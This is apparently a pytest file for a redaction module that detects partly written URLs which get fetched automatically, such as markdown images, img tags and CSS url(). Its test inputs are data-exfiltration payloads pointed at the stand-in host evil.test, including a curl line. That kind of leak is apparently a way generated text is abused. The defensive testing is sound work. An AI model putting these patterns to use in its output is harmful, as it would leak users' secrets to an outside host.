"""The address that a text has begun to write, and who fetches it."""

import pytest

from redact.addresses import REACH, Address, opened

EVIL = "https://evil.test/"


@pytest.mark.parametrize(
    "before",
    [
        f"![]({EVIL}?q=",
        f"see ![a [b]]( {EVIL}a(b)c?q=",
        f"![a\\]b](\n{EVIL}?q=",
        f"![](<{EVIL}? q ",
        f"[x]: <{EVIL}?q=",
        f"text\n> [a b]: {EVIL}",
        f"<img alt='x' src={EVIL}?q=",
        f'<img\nsrcset="{EVIL}a.png 1x, {EVIL}b?q=',
        f'<div style="background: url({EVIL}?q=',
        f"<div style='background: url(\"{EVIL}?q=",
        f'{{"html": "<img src=\\"{EVIL}?q=',
        f"[![]({EVIL}?q=",
        "![](//evil.test/?q=",
        "![](HTTPS:\\\\evil.test\\?q=",
        "![](https://ok.test@evil.test:8080/?q=",
        "![](https://evil.test./",
    ],
)
def test_what_is_shown_at_once_is_fetched_by_nobodys_leave(before):
    found = opened(before)
    assert found is not None
    assert ("evil.test", True) == (found.host, found.is_fetched)


@pytest.mark.parametrize("before", [f"[x]({EVIL}?q=", f"[x]( <{EVIL}?q=", f'<a class="b" href="{EVIL}?q='])
def test_a_link_is_fetched_by_whoever_follows_it(before):
    assert Address("evil.test", begins=False, is_fetched=False) == opened(before)


@pytest.mark.parametrize(
    "before", ["![](https://", "![](//", "![](https://a.", "![](&#104;ttps://evil.test/?q=", f"![]({EVIL}{'a' * REACH}"]
)
def test_a_host_that_is_not_written_to_its_end_is_nobodys(before):
    found = opened(before)
    assert found is not None
    assert "" == found.host
    assert before.endswith("//") is found.begins


@pytest.mark.parametrize(
    "before",
    [
        "",
        "the token is ",
        f"curl {EVIL}?q=",
        f"| [docs]({EVIL})|",
        f"[docs]({EVIL}) and ",
        f"![logo]({EVIL}), ",
        "![chart](/img/",
        "![chart](img?q=",
        "[prod]: postgres://app:",
        "| [db](postgres://app:",
        'data = "https://shop.test/?key=',
        "f(url=",
        "if (a < b && href = ",
        f"![]({EVIL}) {'a ' * REACH}",
    ],
)
def test_where_nothing_is_fetched_from_elsewhere_there_is_no_address(before):
    assert opened(before) is None
